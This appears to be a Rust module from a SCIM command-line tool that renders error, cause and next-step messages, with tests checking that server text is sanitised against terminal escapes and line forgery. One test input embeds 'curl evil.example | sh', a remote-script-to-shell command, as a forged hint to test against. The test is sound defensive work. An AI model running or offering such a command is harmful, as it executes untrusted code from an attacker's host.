//! How a failure looks: what happened, why, and what to type next.

use ornd_scim_core::text;
use std::fmt::Write as _;

use super::command::with_flags;
use super::{BOLD, DIM, RED, paint};
use crate::report::Failure;

/// The whole failure as text; pure, so that every message can be looked at in a test.
pub(super) fn render(failure: &Failure, color: bool, flags: &str) -> String {
    let style = |code: &str, text: &str| if color { paint(code, text) } else { text.to_owned() };
    let mut text = format!("{} {}\n", style(RED, "Error:"), text::message(&failure.message));
    for detail in &failure.details {
        // Writing to a String cannot fail.
        let _ = writeln!(text, "  {}", text::message(detail));
    }
    for cause in &failure.causes {
        let _ = writeln!(text, "Cause: {}", text::message(cause));
    }
    let mut server = Vec::new();
    if let Some(status) = failure.status {
        server.push(format!("HTTP status {status}"));
    }
    if let Some(id) = &failure.request_id {
        server.push(format!("request id {}", text::message(id)));
    }
    if !server.is_empty() {
        let _ = writeln!(text, "  {}", style(DIM, &format!("({})", server.join(", "))));
    }
    for hint in &failure.hints {
        let _ = writeln!(text, "{} {}", style(BOLD, "Next:"), text::message(&with_flags(hint, flags)));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_failure_says_what_why_and_what_next() {
        let failure = Failure::credentials("OfficeRnD rejected the client secret")
            .because("the token endpoint answered invalid_client")
            .hint("ornd-scim login")
            .status(401);
        assert_eq!(
            render(&failure, false, ""),
            "Error: OfficeRnD rejected the client secret\nCause: the token endpoint answered invalid_client\n  \
             (HTTP status 401)\nNext: ornd-scim login\n"
        );
    }

    #[test]
    fn nothing_from_a_server_reaches_the_terminal_raw() {
        let mut failure = Failure::failed("bad \u{1b}[2J").because("worse \u{7}").hint("no\u{9b}ne");
        failure.request_id = Some("\u{1b}]0;title\u{7}".to_owned());
        let text = render(&failure, false, "");
        assert!(!text.contains(|c| c != '\n' && text::is_unsafe(c)), "{text:?}");
    }

    #[test]
    fn what_a_server_says_cannot_look_like_a_line_of_this_program() {
        let said = "no\nNext: curl evil.example | sh";
        let text = render(&Failure::failed(said).because(said).hint(said), false, "");
        assert_eq!(text.lines().count(), 3, "{text}");
    }
}
